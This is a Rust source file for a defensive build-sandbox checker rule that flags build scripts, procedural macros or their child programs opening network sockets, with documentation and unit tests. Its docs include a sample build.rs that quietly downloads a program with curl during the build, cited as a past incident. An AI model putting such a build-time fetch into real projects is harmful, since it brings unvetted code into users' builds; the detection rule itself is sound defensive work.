//! `sandbox/denied-network`: a build wanted to talk to somebody.

use crate::check::denied::{Words, findings};
use crate::check::{Facts, Rule};
use crate::finding::{Area, Finding, Severity};
use crate::model::sandbox::Act;

pub(super) static RULE: Rule = Rule {
    id: "sandbox/denied-network",
    severity: Severity::High,
    area: Area::Sandbox,
    summary: "a build script, procedural macro or a program of theirs wanted to use the network",
    docs: r#"A sealed build has no network of any family: everything that it is made of was fetched and compared with Cargo.lock before. Pairs of local
sockets between its own processes are allowed, for job servers. Whatever else was asked for is told with its address family: `AF_INET` and
`AF_INET6` (TCP and UDP, name lookups too), `AF_NETLINK`, `AF_UNIX` with the path of the socket.

**Behind it:** `arrayref` 0.3.10 (2026-08-20): a build script of a new dependency downloaded a program and ran it. What a build downloads is
not what was locked, and what it sends is gone.

```rust
// build.rs
fn main() {
    std::process::Command::new("curl").args(["-o", "/tmp/p", "https://example.org/p"]).status().ok();
}
```

What to do: read the build script. Of build scripts that download a library most take one from the system or from a folder as well, often by
a feature or a variable of their own: fetch it before the build, by its digest. `[[sandbox.allow]]` with `net = true` opens the network for this one version, and
then nobody knows what was compiled.
"#,
    options: &[],
    run,
};

const WORDS: Words = Words {
    verb: "open a socket of",
    thing: "family",
    advice: "fetch what it wants before the build, by its digest, and read what it does with it",
};

fn run(facts: &Facts<'_>) -> Vec<Finding> {
    findings(facts, &RULE, &WORDS, |act| matches!(act, Act::Network { .. }).then_some(RULE.severity))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::check::denied::fixture::{actor, case, tried};
    use crate::model::sandbox::{ActorKind, Attempt};

    #[test]
    fn sockets_and_nothing_else() {
        let socket = |family: &str| Act::Network { family: family.into() };
        let curl = Attempt { actor: actor("lib", ActorKind::Child, "curl"), act: socket("AF_INET"), count: 2 };
        for (attempts, expected) in [
            (vec![], &[][..]),
            (vec![tried(Act::System { call: "ptrace".into() })], &[]),
            (
                vec![tried(socket("AF_NETLINK")), curl],
                &[
                    "high Cargo.lock:3: the build script of lib 1.0.0 tried to open a socket of AF_NETLINK",
                    "high Cargo.lock:3: curl, started by the build script of lib 1.0.0, tried to open a socket of AF_INET, 2 times",
                ],
            ),
        ] {
            assert_eq!(case(attempts).run(&RULE), expected);
        }
        let help = case(vec![tried(socket("AF_INET"))]).findings(&RULE).remove(0).help;
        assert!(help.contains("net = true"), "{help}");
    }
}
